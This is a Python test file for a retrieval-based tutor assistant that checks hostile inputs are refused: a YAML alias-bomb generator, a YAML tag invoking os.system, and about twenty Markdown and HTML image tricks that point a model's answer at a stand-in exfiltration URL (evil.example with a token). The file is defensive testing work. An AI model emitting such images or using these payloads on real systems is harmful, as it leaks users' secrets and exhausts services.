"""Hostile or broken inputs: front matter (alias bombs, odd shapes), settings that cannot work, documents in
other encodings or broken, and images an answer smuggles past the chat page. Each fails cleanly, with a reason."""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
import time
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from assistant.errors import SettingsError
from assistant.roadmap import FrontMatterError, load_roadmap, read_front_matter, split_front_matter
from assistant.settings import Settings, load_settings
from assistant.vectorstore.chroma import open_client, open_collection
from ingest.documents import SourceDoc, read_document
from ingest.pipeline import Ingestor
from tests.conftest import REPO
from tests.fixtures.ingest.pdfs import make_pdf

MIB = 1024 * 1024
ALIASES = "front matter uses YAML aliases; remove them"


def alias_bomb() -> str:
    """Under 1 KB of YAML that expands to 9**9 (387 million) strings when its aliases are followed."""
    lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x]"]
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    return "---\n" + "\n".join([*lines, "title: *a8"]) + "\n---\n# Bomb\n\nBody text.\n"


def read(path: Path, max_bytes: int = 20 * MIB) -> SourceDoc | str:
    """The document, or the reason it was skipped."""
    got = read_document(path, "sig", max_bytes)
    return got if isinstance(got, SourceDoc) else got.reason


def ingest(settings: Settings, embedder, inputs: list[Path]):
    return Ingestor(settings, open_client(settings), lambda: embedder).run(inputs)


def reasons(report) -> dict[str, str]:
    return {s.source.rsplit("/", 1)[-1]: s.reason for s in report.documents_skipped}


# --- 1. front matter ------------------------------------------------------------------------------------

BOMB_CHECK = """
import json, resource, sys
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (3 * 1024 ** 3, 3 * 1024 ** 3))
from assistant.roadmap import load_roadmap
from ingest.documents import read_document
got = read_document(Path(sys.argv[1]) / "01-bomb.md", "sig", 10 ** 6)
print(json.dumps({"doc": type(got).__name__, "reason": getattr(got, "reason", ""),
                  "roadmap": load_roadmap(Path(sys.argv[1])).errors}))
"""


def test_an_alias_bomb_in_front_matter_is_refused_at_once(tmp_path):
    bomb = alias_bomb()
    assert len(bomb) < 1024
    (tmp_path / "01-bomb.md").write_text(bomb)
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    # a child process with a memory cap and a time limit: were aliases followed, it dies instead of this run
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-c", BOMB_CHECK, str(tmp_path)], capture_output=True, text=True, timeout=120, env=env
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    got = json.loads(proc.stdout)
    assert got == {"doc": "Skipped", "reason": ALIASES, "roadmap": [f"01-bomb.md: {ALIASES}"]}
    assert time.monotonic() - started < 60


@pytest.mark.parametrize(
    ("front", "reason"),
    [
        ("a: &x 1\nb: *x\n", ALIASES),
        ("a: &x 1\n", ALIASES),
        ("base: &b {k: 1}\nother:\n  <<: *b\n", ALIASES),
        ("- a\n- b\n", "front matter is not 'key: value' lines"),
        ("42\n", "front matter is not 'key: value' lines"),
        ("title: [unclosed\n", "front matter is not valid YAML"),
        ("title: a\x01\x02\x7fb\n", "front matter is not valid YAML"),
        ("title: A\ntitle: B\n", "front matter repeats the key 'title'"),
        ("last_reviewed: 2026-13-45\n", "front matter is not valid YAML"),
        ("x: !!python/object/apply:os.system ['true']\n", "front matter is not valid YAML"),
        ("x: " + "[" * 5000 + "]" * 5000 + "\n", "front matter nests deeper than"),
        ("title: " + "t" * 3000 + "\n", "a front matter value is over 2,000 characters"),
        ("stage: " + "9" * 5000 + "\n", "a front matter value is over 2,000 characters"),
        ("".join(f"key{i}: value\n" for i in range(3000)), "front matter is over 16 KiB"),
    ],
    ids=lambda v: v[:20] if isinstance(v, str) else v,
)
def test_refused_front_matter_skips_the_document_with_the_fix(tmp_path, front, reason):
    path = tmp_path / "notes.md"
    path.write_text(f"---\n{front}---\n# Notes\n\nBatch norm rescales activations.\n")
    got = read(path)
    assert isinstance(got, str) and got.startswith(reason), got
    assert "\n" not in got and got.endswith(("remove them", "fix it", "keep one", "shorten it", "flatten it"))
    assert split_front_matter(path.read_text()) == ({}, path.read_text())  # the lenient form never raises


@pytest.mark.parametrize(
    ("front", "title", "meta"),
    [
        ("title: [a, b]\n", "Heading", {}),
        ("title: {a: 1}\n", "Heading", {}),
        ("title: 42\n", "42", {}),
        ("title: yes\n", "Heading", {}),
        ("title:\n", "Heading", {}),
        ("title: |\n  Two\n  lines\n", "Two lines", {}),
        ("id: [x]\ntags: ml\n", "Heading", {"tags": ["ml"]}),
        ("tags: {a: 1}\ntopics: 7\n", "Heading", {"topics": ["7"]}),
        ("tags: [ml, [nested], {a: 1}, 3]\n", "Heading", {"tags": ["ml", "3"]}),
        ("stage: '3'\n", "Heading", {"stage": 3}),
        ("stage: true\n", "Heading", {}),
        ("stage: [1]\n", "Heading", {}),
        ("", "Heading", {}),
    ],
)
def test_odd_front_matter_values_fall_back_sanely(tmp_path, front, title, meta):
    path = tmp_path / "notes.md"
    path.write_text(f"---\n{front}---\n# Heading\n\nBatch norm rescales activations.\n")
    got = read(path)
    assert isinstance(got, SourceDoc), got
    assert got.title == title and got.doc_id == "notes" and got.text.startswith("# Heading")
    for key in ("stage", "tags", "topics"):
        assert got.meta.get(key) == meta.get(key), key


def test_a_rule_around_a_paragraph_is_not_front_matter_and_byte_order_marks_are_ignored(tmp_path):
    assert read_front_matter("---\nJust a paragraph.\n---\nMore.") == ({}, "---\nJust a paragraph.\n---\nMore.")
    assert read_front_matter("\ufeff---\r\ntitle: Hi\r\n---\r\n# Body") == ({"title": "Hi"}, "# Body")
    assert read_front_matter("---\ntitle: no end\n# Body") == ({}, "---\ntitle: no end\n# Body")
    with pytest.raises(FrontMatterError):
        read_front_matter(alias_bomb())


def test_bad_front_matter_is_skipped_and_the_run_goes_on(tmp_path, make_settings, embedder):
    folder = tmp_path / "notes"
    folder.mkdir()
    body = "# {0}\n\nGradient clipping caps the norm of the gradient ({0}).\n"
    (folder / "good.md").write_text("---\ntitle: Good\ntags: ml\n---\n" + body.format("Good"))
    (folder / "alias.md").write_text("---\nt: &t Alias\ntitle: *t\n---\n" + body.format("Alias"))
    (folder / "dup.md").write_text("---\ntitle: A\ntitle: B\n---\n" + body.format("Dup"))
    (folder / "listy.md").write_text("---\n- a\n---\n" + body.format("Listy"))
    (folder / "title-list.md").write_text("---\ntitle: [x, y]\nstage: nope\n---\n" + body.format("Listed"))
    report = ingest(make_settings(), embedder, [folder])
    assert reasons(report) == {
        "alias.md": ALIASES,
        "dup.md": "front matter repeats the key 'title'; keep one",
        "listy.md": "front matter is not 'key: value' lines; fix it",
    }
    assert sorted(s.rsplit("/", 1)[-1] for s in report.documents_new) == ["good.md", "title-list.md"]
    got = open_collection(open_client(make_settings()), make_settings()).get(include=["metadatas"])
    assert {m["title"] for m in got["metadatas"]} == {"Good", "Listed"}


def test_the_roadmap_loader_reports_bad_front_matter_per_file(tmp_path):
    (tmp_path / "01-alias.md").write_text("---\nid: &i alpha\nalso: *i\n---\n# A\n")
    (tmp_path / "02-dup.md").write_text("---\nid: beta\nid: gamma\n---\n# B\n")
    (tmp_path / "03-latin1.md").write_bytes("---\nid: caf\xe9\n---\n".encode("latin-1"))
    (tmp_path / "04-list.md").write_text("---\n- x\n---\n# D\n")
    errors = load_roadmap(tmp_path).errors
    assert errors == [
        f"01-alias.md: {ALIASES}",
        "02-dup.md: front matter repeats the key 'id'; keep one",
        "03-latin1.md: unreadable (UnicodeDecodeError)",
        "04-list.md: front matter is not 'key: value' lines; fix it",
    ]


# --- 2. settings -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "variable"),
    [
        ({"LLM_TIMEOUT_S": "inf"}, "LLM_TIMEOUT_S"),
        ({"LLM_TIMEOUT_S": "nan"}, "LLM_TIMEOUT_S"),
        ({"LLM_TIMEOUT_S": "0"}, "LLM_TIMEOUT_S"),
        ({"LLM_TIMEOUT_S": "-5"}, "LLM_TIMEOUT_S"),
        ({"LLM_TIMEOUT_S": "1e300"}, "LLM_TIMEOUT_S"),
        ({"FETCH_TIMEOUT_S": "inf"}, "FETCH_TIMEOUT_S"),
        ({"FETCH_CONNECT_TIMEOUT_S": "-1"}, "FETCH_CONNECT_TIMEOUT_S"),
        ({"FETCH_HOST_INTERVAL_S": "nan"}, "FETCH_HOST_INTERVAL_S"),
        ({"FETCH_MAX_MB": "0"}, "FETCH_MAX_MB"),
        ({"INGEST_MAX_FILE_MB": "-1"}, "INGEST_MAX_FILE_MB"),
        ({"INGEST_MAX_FILE_MB": "inf"}, "INGEST_MAX_FILE_MB"),
        ({"LINK_REFRESH_HOURS": "inf"}, "LINK_REFRESH_HOURS"),
        ({"LINK_MAX_CHARS": "-1"}, "LINK_MAX_CHARS"),
        ({"DAILY_BUDGET_USD": "nan"}, "DAILY_BUDGET_USD"),
        ({"SESSION_BUDGET_USD": "inf"}, "SESSION_BUDGET_USD"),
        ({"SESSION_BUDGET_USD": "-1"}, "SESSION_BUDGET_USD"),
        ({"TEMPERATURE": "nan"}, "TEMPERATURE"),
        ({"MIN_RELEVANCE": "nan"}, "MIN_RELEVANCE"),
        ({"VECTOR_WEIGHT": "nan"}, "VECTOR_WEIGHT"),
        ({"LEXICAL_WEIGHT": "inf"}, "LEXICAL_WEIGHT"),
        ({"CHUNK_SIZE": "-5"}, "CHUNK_SIZE"),
        ({"CHUNK_SIZE": "200", "CHUNK_OVERLAP": "200"}, "CHUNK_OVERLAP"),
        ({"CHUNK_OVERLAP": "-1"}, "CHUNK_OVERLAP"),
        ({"TOP_K": "0"}, "TOP_K"),
        ({"LOCAL_N_THREADS": "0"}, "LOCAL_N_THREADS"),
        ({"LOCAL_N_THREADS": "100000"}, "LOCAL_N_THREADS"),
        ({"LOCAL_N_CTX": "1024", "MAX_ANSWER_TOKENS": "2048"}, "MAX_ANSWER_TOKENS"),
        ({"CHROMA_PORT": "0"}, "CHROMA_PORT"),
        ({"CHROMA_COLLECTION": "bad/name!"}, "CHROMA_COLLECTION"),
        ({"CHROMA_COLLECTION": "ab"}, "CHROMA_COLLECTION"),
        ({"CHROMA_COLLECTION": "a..b"}, "CHROMA_COLLECTION"),
        ({"CHROMA_COLLECTION": "-roadmap"}, "CHROMA_COLLECTION"),
        ({"CHROMA_COLLECTION": "roadmap."}, "CHROMA_COLLECTION"),
        ({"CHROMA_COLLECTION": "road map"}, "CHROMA_COLLECTION"),
        ({"CHROMA_COLLECTION": "127.0.0.1"}, "CHROMA_COLLECTION"),
        ({"CHROMA_COLLECTION": "r" * 201}, "CHROMA_COLLECTION"),
        ({"DATA_DIR": ""}, "DATA_DIR"),
    ],
    ids=lambda v: "-".join(f"{k}={str(x)[:12]}" for k, x in v.items()) if isinstance(v, dict) else v,
)
def test_absurd_settings_fail_at_load_naming_the_variable(tmp_path, overrides, variable):
    with pytest.raises(SettingsError) as info:
        load_settings(env_file=None, **{"DATA_DIR": str(tmp_path), **overrides})
    message = str(info.value)
    assert variable in message and "\n" not in message and ".env" in message, message


@pytest.mark.parametrize("variable", ["DATA_DIR", "MODEL_CACHE_DIR", "CHROMA_PATH"])
def test_a_folder_setting_that_is_a_file_is_refused(tmp_path, variable):
    afile = tmp_path / "afile"
    afile.write_text("not a folder")
    for value, says in ((afile, "it is a file; point it at a folder"), (afile / "sub", f"{afile} is a file")):
        with pytest.raises(SettingsError) as info:
            load_settings(env_file=None, **{"DATA_DIR": str(tmp_path / "data"), variable: str(value)})
        assert variable in str(info.value) and says in str(info.value)


@pytest.mark.parametrize("name", ["roadmap", "abc", "my.notes-v2_1", "A1", "x" * 200])
def test_collection_names_chroma_accepts_still_load(tmp_path, name):
    if len(name) < 3:
        name = name + "b"
    assert load_settings(env_file=None, DATA_DIR=tmp_path, CHROMA_COLLECTION=name).collection == name


def _tutor() -> list[str]:
    script = Path(sys.executable).with_name("tutor")
    return [str(script)] if script.exists() else [sys.executable, "-m", "ui.cli"]


@pytest.mark.parametrize(
    ("args", "env", "variable"),
    [
        (["costs"], {"DATA_DIR": "afile"}, "DATA_DIR"),
        (["ask", "what is a tensor"], {"DATA_DIR": "afile"}, "DATA_DIR"),
        (["ingest", "notes"], {"DATA_DIR": "afile"}, "DATA_DIR"),
        (["ask", "what is a tensor"], {"CHROMA_COLLECTION": "bad/name!"}, "CHROMA_COLLECTION"),
        (["ingest", "notes"], {"CHROMA_COLLECTION": "bad/name!"}, "CHROMA_COLLECTION"),
        (["ask", "what is a tensor"], {"LLM_TIMEOUT_S": "inf"}, "LLM_TIMEOUT_S"),
        (["costs"], {"DAILY_BUDGET_USD": "nan"}, "DAILY_BUDGET_USD"),
    ],
)
def test_the_cli_refuses_bad_settings_in_one_line(tmp_path, args, env, variable):
    (tmp_path / "afile").write_text("a file, not a folder")
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "a.md").write_text("# A\n\nText.\n")
    base = {k: v for k, v in os.environ.items() if k.upper() not in {f.alias for f in Settings.model_fields.values()}}
    full = {**base, "HOME": str(tmp_path), "PYTHONPATH": str(REPO), "DATA_DIR": str(tmp_path / "data"), **env}
    proc = subprocess.run([*_tutor(), *args], capture_output=True, text=True, env=full, cwd=tmp_path, timeout=120)
    assert proc.returncode != 0
    assert "Traceback" not in proc.stderr + proc.stdout
    assert proc.stderr.startswith("error:") and proc.stderr.strip().count("\n") == 0, proc.stderr
    assert variable in proc.stderr
    assert not (tmp_path / "data").exists()


def test_costs_says_which_ledger_it_did_not_find(tmp_path, monkeypatch):
    from ui.cli import app

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "typo"))
    out = CliRunner().invoke(app, ["costs"])
    assert out.exit_code == 0 and "No model calls recorded (no ledger at" in out.stdout and "typo" in out.stdout


# --- 3. encodings, empty, corrupt and huge documents -----------------------------------------------------


def _pdf() -> bytes:
    return make_pdf(["Gradient descent steps against the gradient."] * 3, title="Optim")


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("latin1.md", "# Caf\xe9\n\ncr\xe8me br\xfbl\xe9e".encode("latin-1"), "not UTF-8 text (re-save"),
        ("utf16le.md", "\ufeff# Caf\xe9\n\nUTF-16 text.".encode("utf-16-le"), "# Caf\xe9\n\nUTF-16 text."),
        ("utf16be.md", "\ufeff# Caf\xe9\n\nUTF-16 text.".encode("utf-16-be"), "# Caf\xe9\n\nUTF-16 text."),
        ("utf32.md", "\ufeff# Caf\xe9\n\nUTF-32 text.".encode("utf-32-le"), "# Caf\xe9\n\nUTF-32 text."),
        ("utf16-odd.md", b"\xff\xfe#\x00 \x00T\x00\x00", "not UTF-16 text"),
        ("utf8-bom.md", "\ufeff# Caf\xe9\n\ntext".encode(), "# Caf\xe9\n\ntext"),
        ("nul-early.md", b"# T\n\n\x00\x01binary", "binary content"),
        ("nul-late.md", b"# T\n\n" + b"word " * 4000 + b"\x00 tail", "binary content"),
        ("random.txt", random.Random(7).randbytes(4096), "binary content"),
        ("empty.md", b"", "empty document"),
        ("blank.txt", b" \n\t\r\n", "empty document"),
        ("empty.pdf", b"", "empty document"),
        ("truncated.pdf", _pdf()[: len(_pdf()) // 2], "corrupt PDF"),
        ("tail-cut.pdf", _pdf()[:-40], "corrupt PDF"),
        ("huge-line.md", b"x" * (3 * MIB), "no readable text (only runs of 2,000+ characters"),
        ("base64.txt", random.Random(1).randbytes(1_500_000).hex().encode(), "no readable text"),
    ],
)
def test_each_encoding_or_broken_file_is_read_or_skipped_with_a_reason(tmp_path, name, data, expected):
    path = tmp_path / name
    path.write_bytes(data)
    started = time.monotonic()
    got = read(path)
    assert time.monotonic() - started < 5
    if isinstance(got, SourceDoc):
        assert got.text == expected
    else:
        assert got.startswith(expected), got


def test_a_blob_inside_prose_is_cut_out_and_the_prose_kept(tmp_path):
    path = tmp_path / "notes.md"
    path.write_text("# Notes\n\nAn inline image ![](data:image/png;base64," + "QUJD" * 5000 + ") then prose.\n")
    got = read(path)
    assert isinstance(got, SourceDoc) and got.text == "# Notes\n\nAn inline image … then prose.\n"


def test_a_file_over_the_size_cap_is_never_read(tmp_path, monkeypatch):
    path = tmp_path / "big.md"
    path.write_bytes(b"# Big\n\n" + b"word " * 1000)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("read a file over the cap"))
    got = read(path, max_bytes=1024)
    assert isinstance(got, str) and got.startswith("too large (") and "INGEST_MAX_FILE_MB" in got


def test_a_run_over_broken_files_goes_on(tmp_path, make_settings, embedder):
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "good.md").write_text("# Good\n\nEarly stopping halts training when validation loss rises.\n")
    (folder / "utf16.md").write_bytes("\ufeff# Wide\n\nLabel smoothing softens one-hot targets.\n".encode("utf-16"))
    (folder / "nul-late.md").write_bytes(b"# T\n\n" + b"word " * 4000 + b"\x00")
    (folder / "zero.pdf").write_bytes(b"")
    (folder / "truncated.pdf").write_bytes(_pdf()[:300])
    (folder / "huge-line.txt").write_bytes(b"y" * MIB)
    (folder / "bomb.md").write_text(alias_bomb())
    report = ingest(make_settings(), embedder, [folder])
    assert reasons(report) == {
        "nul-late.md": "binary content",
        "zero.pdf": "empty document",
        "truncated.pdf": reasons(report)["truncated.pdf"],
        "huge-line.txt": "no readable text (only runs of 2,000+ characters without a space: data, not prose)",
        "bomb.md": ALIASES,
    }
    assert reasons(report)["truncated.pdf"].startswith("corrupt PDF")
    assert sorted(s.rsplit("/", 1)[-1] for s in report.documents_new) == ["good.md", "utf16.md"]


# --- 4. images in answers: what the chat page renders ----------------------------------------------------

EVIL = "http://evil.example/c?q=TOKEN"
SMUGGLED = {
    "reference after": f"See ![x][r] here.\n\n[r]: {EVIL}",
    "reference before": f"[r]: {EVIL}\n\nSee ![x][r] here.",
    "space and case": f"See ![x] [R] here.\n\n[r]: {EVIL}",
    "angle brackets": f"See ![x][R].\n\n[R]: <{EVIL}>",
    "angle and title": f'See ![x][R].\n\n  [R]: <{EVIL}> "title"',
    "upper-case definition": f"See ![x][ref].\n\n[REF]: {EVIL}",
    "tab": f"See ![x][r]\n\n[r]:\t{EVIL}",
    "collapsed": f"See ![r][] here.\n\n[r]: {EVIL}",
    "shortcut": f"See ![r] here.\n\n[r]: {EVIL}",
    "definition url on the next line": f"See ![r] here.\n\n[r]:\n  {EVIL}",
    "definition in a quote": f"> See ![r] here.\n>\n> [r]: {EVIL}",
    "definition in a list": f"- See ![r] here.\n\n  [r]: {EVIL}",
    "label over lines": f"See ![x][multi\nline].\n\n[multi line]: {EVIL}",
    "brackets in alt": f"See ![a [b] c]({EVIL}) here.",
    "alt over lines": f"See ![multi\nline]({EVIL}) here.",
    "deeper brackets": f"See ![a [b [c]] d]({EVIL}) here.",
    "inline angle": f"See ![x](<{EVIL}>)",
    "inside a link": f"See [![x][r]](https://ok.example/)\n\n[r]: {EVIL}",
    "after a mid-line fence": f"Use ``` then ![x]({EVIL})",
    "after an escaped backtick": f"Use \\`![x]({EVIL})` here.",
    "html": f'<img src="{EVIL}">',
}

# Images to other Markdown renderers (a space between ![x] and [R]), not to CommonMark (markdown-it here)
NOT_COMMONMARK = {SMUGGLED["space and case"]}


def _images(markdown: str) -> int:
    return sum(MarkdownIt(preset).render(markdown).count("<img") for preset in ("commonmark", "default"))


@pytest.mark.parametrize("text", list(SMUGGLED.values()), ids=list(SMUGGLED))
def test_no_image_reaches_the_chat_page(text):
    from assistant.rag.sanitize import sanitize_answer
    from ui.render import safe_markdown  # what ui/pages/chat.py renders every draft and answer through

    if text not in NOT_COMMONMARK:
        assert _images(text) or "<img" in text  # the oracle sees the image the case smuggles
    assert _images(safe_markdown(text)) == 0  # the streamed draft
    checked = sanitize_answer(text, sources=[])
    assert _images(checked.text) == 0 and "evil.example" not in checked.text and checked.removed
    assert _images(safe_markdown(checked.text)) == 0
    allowed = sanitize_answer(text, sources=[f"a source that links {EVIL}"])  # even a URL a source holds
    assert _images(allowed.text) == 0 and _images(safe_markdown(allowed.text)) == 0


def test_a_draft_streamed_piece_by_piece_never_shows_an_image():
    from ui.render import safe_markdown

    for text in (SMUGGLED["reference before"], SMUGGLED["definition url on the next line"]):
        assert all(_images(safe_markdown(text[:i])) == 0 for i in range(len(text) + 1))


def test_code_still_keeps_what_looks_like_an_image():
    from assistant.rag.sanitize import sanitize_answer

    text = f"Write it like this:\n\n```markdown\n![x]({EVIL})\n```\n\nand `![y][r]` inline."
    assert sanitize_answer(text, sources=[]).text == text
